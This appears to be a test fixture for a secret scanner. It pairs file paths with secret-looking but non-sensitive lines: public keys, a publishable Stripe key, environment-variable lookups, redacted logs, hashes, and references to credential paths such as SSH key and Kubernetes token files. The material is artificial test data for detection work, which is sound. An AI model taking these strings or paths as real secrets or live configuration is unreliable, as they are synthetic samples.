    (
        "keys/id_rsa.pub",
        (
            "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCetptUs+HZp6cAJfdqI8YTgrcXxYgslFRmbQsYS2L6gR8OexCx"
            "bMpC/jHV9dEnb/MJPwtLapuSEbqX56JzEBSS37Nqti1506B/bOvyou5GLudN5yuB+mgMWcrC39hB5cNuxrMpsS60"
            "39T93wMkouV1klKIkPfPHmMMYcnVDKNHaU7abZPkCndiZsCnppg1JLPH6qJZGzWfi22/PIqGKTt9ib03Gtzs6yme"
            "n+KbWqEpu7VE+1NRfGwcsJspKKJhBP1W6qLkHY1wQ87y1/ZJH+FjRme2toQDcvbNlq041LdUuXFt5uCmORrb2GrS"
            "Bj4ZQTTDrWHOTC3X39qsqLpbULN build@ci"
        ),
    ),
    (
        "keys/public.pem",
        (
            "-----BEGIN PUBLIC KEY-----\n"
            "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEe72fpce7dbNrays6/HftErTC/HJS\n"
            "r5ru2KxI4V6CY/3Itlpftp6RoXCH7SaTzCMyBCnrmgwhxpMB+1jhrGCKs20l\n"
            "-----END PUBLIC KEY-----"
        ),
    ),
    (
        "keys/server.crt",
        (
            "-----BEGIN CERTIFICATE-----\n"
            "MIIDdzCCAl+gAwIBAgIE6/ui+RixHnLC8KxSxONrr4YHwuve7cQFciTGh8mnjP9y\n"
            "u+b7UH6b9VnuSoUukA916s1/oMXIS+f6wNGwPiZDWltXawm6KMcz2JhK+aoqsItw\n"
            "7qZoIQwNY4DjwDTPNfHtT6jMBlECRkLeaLOtMnIzkMXfAXKzyB0yByekBx3cKaOU\n"
            "-----END CERTIFICATE-----"
        ),
    ),
    (
        "keys/known_hosts",
        (
            "git.acme.org ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHv"
            "lh6G159LO/SiZ/9g3AZXvpdyZYuftWKkKdsQK4l8E5HYByJUw9IapI5saLjKd/nZhzUhr1xbZqkBTpS+vVvh="
        ),
    ),
    (
        "keys/allowed.asc",
        (
            "-----BEGIN PGP PUBLIC KEY BLOCK-----\n"
            "\n"
            "mDMEZUb9SWSGC8rGqRq48yyiWFVCRh1UYyYkIqsM2UwsfExqJXnxlua2HxJ087gj\n"
            "LGEJkIuUERW+J01IKqJC5AbamMG74M3uPP1EViMgl4SkrdGIfIl7eb+kk8vLStBj\n"
            "-----END PGP PUBLIC KEY BLOCK-----"
        ),
    ),
    (
        "wg/peer.conf",
        "PublicKey = GM5/uwJVJ/6kWy+pcKcw8ildg8IY7/dbaxVRe40zzkY=",
    ),
    (
        "keys/recipients.txt",
        "age1j3d7chuc0ch4h8spce2krv7mwz4nrurp4judp72ar5nyvnhhjkuz87ndpx",
    ),
    (
        "contracts/Token.sol",
        "address constant TREASURY = 0x17b6d20a51c16975d1e590d2ef613b8cc5bdd390;",
    ),
    (
        "contracts/Token.sol",
        'bytes32 public constant MINTER_ROLE = keccak256("MINTER_ROLE");',
    ),
    (
        "contracts/Token.sol",
        "ERC20 public immutable rewardToken;",
    ),
    (
        "contracts/deploy.log",
        (
            "transactionHash: 0x6887856daa2273ec3fa2dd173dcb4290907823bce9eeed450d06c023c3291cd3 bloc"
            "kNumber: 19482211"
        ),
    ),
    (
        "web/stripe.js",
        (
            'const stripe = Stripe("pk_live_51SvstUz8ytB2RYGuW32wvRybBkBiTufxtJJuJTFifpFuXH6SsJw3nzCD'
            'pG1INTOWy63uVgiTtK0vD5d8K7eOrViVrcZJO3q9Yx");'
        ),
    ),
    (
        "web/sentry.js",
        'release: "web@4.12.0+92cc41b2e7a7",',
    ),
    (
        "web/ga.js",
        'gtag("config", "G-AEFSCVMWHP");',
    ),
    (
        "lib/Auth.java",
        "private final PasswordEncoder passwordEncoder = new BCryptPasswordEncoder();",
    ),
    (
        "lib/Auth.java",
        'String password = System.getenv("DB_PASSWORD");',
    ),
    (
        "lib/Auth.java",
        'public static final String TOKEN_HEADER_NAME = "X-Auth-Token";',
    ),
    (
        "lib/Auth.java",
        "AuthenticationTokenProviderFactoryBeanDefinitionParser parser;",
    ),
    (
        "lib/Auth.java",
        'throw new InvalidPasswordException("Password must not be blank");',
    ),
    (
        "lib/auth.go",
        'token := r.Header.Get("Authorization")',
    ),
    (
        "lib/auth.go",
        'Password string `json:"password" validate:"required,min=12"`',
    ),
    (
        "lib/auth.go",
        "const passwordResetTokenLifetime = 15 * time.Minute",
    ),
    (
        "lib/auth.rs",
        'let token = env::var("API_TOKEN")?;',
    ),
    (
        "lib/auth.rs",
        "TokenTree::Group(g) => TokenStream::from(g.stream()),",
    ),
    (
        "lib/auth.cs",
        'var secret = Configuration["Jwt:Secret"];',
    ),
    (
        "lib/auth.cs",
        "public string Password { get; set; } = string.Empty;",
    ),
    (
        "lib/auth.rb",
        (
            "has_secure_password\n"
            "validates :password, length: { minimum: 12 }"
        ),
    ),
    (
        "lib/auth.rb",
        'secret_key_base: <%= ENV["SECRET_KEY_BASE"] %>',
    ),
    (
        "lib/auth.php",
        "$password = $_POST['password'] ?? '';",
    ),
    (
        "lib/auth.php",
        "define('DB_PASSWORD', getenv('WORDPRESS_DB_PASSWORD'));",
    ),
    (
        "lib/lexer.c",
        'static const char *token_names[] = { "IDENT", "NUMBER", "STRING", "LPAREN" };',
    ),
    (
        "lib/lexer.c",
        'case TOKEN_KEYWORD_CONTINUE_STATEMENT: return "continue";',
    ),
    (
        "db/schema.sql",
        "password_hash VARCHAR(255) NOT NULL,",
    ),
    (
        "db/schema.sql",
        "ALTER TABLE users ADD COLUMN api_token_expires_at TIMESTAMPTZ;",
    ),
    (
        "db/schema.sql",
        "SELECT id FROM users WHERE email = $1 AND password_hash = crypt($2, password_hash);",
    ),
    (
        "db/migrate.py",
        'down_revision = "ae0cf535523b"',
    ),
    (
        ".npmrc",
        "//registry.npmjs.org/:_authToken=${NPM_TOKEN}",
    ),
    (
        ".pypirc",
        (
            "[pypi]\n"
            "username = __token__"
        ),
    ),
    (
        "nginx.conf",
        "ssl_certificate_key /etc/ssl/private/server.key;",
    ),
    (
        "nginx.conf",
        "proxy_set_header X-CSRF-Token $http_x_csrf_token;",
    ),
    (
        "nginx.conf",
        "ssl_ciphers ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-GCM-SHA256;",
    ),
    (
        "Dockerfile",
        "FROM python:3.12-slim@sha256:26ce472545fc3dad8a403105e06b18e3c66ef1032adf1009d1d295634dd77296",
    ),
    (
        "Dockerfile",
        "RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci",
    ),
    (
        "Dockerfile",
        "ARG NPM_TOKEN",
    ),
    (
        "terraform.lock.hcl",
        '  "h1:Ulb0n4V3wApOFT1sKApa6zVTVnq/J4T4hQMxVEsKI2z=",',
    ),
    (
        ".pre-commit-config.yaml",
        "rev: 9de50d77759f0bea6c51948f926e93188438e78a",
    ),
    (
        "renovate.json",
        '"packageRules": [{"matchPackageNames": ["@octokit/auth-token"], "enabled": false}]',
    ),
    (
        "openapi.yaml",
        "    securitySchemes: {bearerAuth: {type: http, scheme: bearer, bearerFormat: JWT}}",
    ),
    (
        "openapi.yaml",
        "        password: {type: string, format: password, writeOnly: true}",
    ),
    (
        "schema.graphql",
        "type AuthPayload { accessToken: String! refreshToken: String! }",
    ),
    (
        "auth.proto",
        "string refresh_token = 2;",
    ),
    (
        "csv/head.csv",
        "username,password,role",
    ),
    (
        "log/app.log",
        'WARN password authentication failed for user "app" from 10.0.0.3',
    ),
    (
        "log/app.log",
        "INFO token expired for session, requesting a new one",
    ),
    (
        "log/app.log",
        "DEBUG password=******** user=alice",
    ),
    (
        "log/app.log",
        "DEBUG Authorization: Bearer [REDACTED]",
    ),
    (
        "app/paths.py",
        'SECRET_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token"',
    ),
    (
        "app/paths.py",
        'private_key_path = "~/.ssh/id_ed25519"',
    ),
    (
        "app/paths.py",
        'arn = "arn:aws:secretsmanager:eu-central-1:632419754310:secret:prod/db"',
    ),
    (
        "app/paths.py",
        'password_ref = "op://Infrastructure/postgres/password"',
    ),
    (
        "app/etag.py",
        "ETAG = 'W/\"b2202889b8dab77f09c7a1fbc0d455aa\"'",
    ),
    (
        "app/etag.py",
        'content_md5 = "b9608c137fcad2cfb283be0934b6bdc2"',
    ),
    (
        "app/etag.py",
        'expected_sha1 = "4007a2ae29e1d96fe610e71cf93dc679d15dc651"',
    ),
    (
        "app/chars.py",
        'ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"',
    ),
    (
        "app/chars.py",
        'BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"',
    ),
    (
        "app/chars.py",
        'EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"',
    ),
    (
        "R/run.R",
        'token <- Sys.getenv("GITHUB_PAT")',
    ),
    (
        "win/run.ps1",
        '$cred = Get-Credential -UserName svc -Message "Password"',
    ),
    (
        "win/run.bat",
        "set /p PASSWORD=Enter password:",
    ),
    (
        "win/App.csproj",
        "<UserSecretsId>4e2065e1-c556-401c-8861-4b17979c1a60</UserSecretsId>",
    ),
    (
        "win/App.sln",
        (
            'Project("{F13B328B-506D-4409-A04A-8BFEC5BE79AC}") = "App", "App\\App.csproj", "{457E9C98-'
            '8960-4129-ABA0-62A517A1DB23}"'
        ),
    ),
    (
        "ios/project.pbxproj",
        (
            "95F4BD8C3D0C516FCC0057C3 /* PasswordField.swift in Sources */ = {isa = PBXBuildFile; fil"
            "eRef = 12BE04D3231C513939381DE0 };"
        ),
    ),
    (
        "i18n/messages.po",
        (
            'msgid "Enter your secret token"\n'
            'msgstr "Geben Sie Ihr geheimes Token ein"'
        ),
    ),
)
# fmt: on
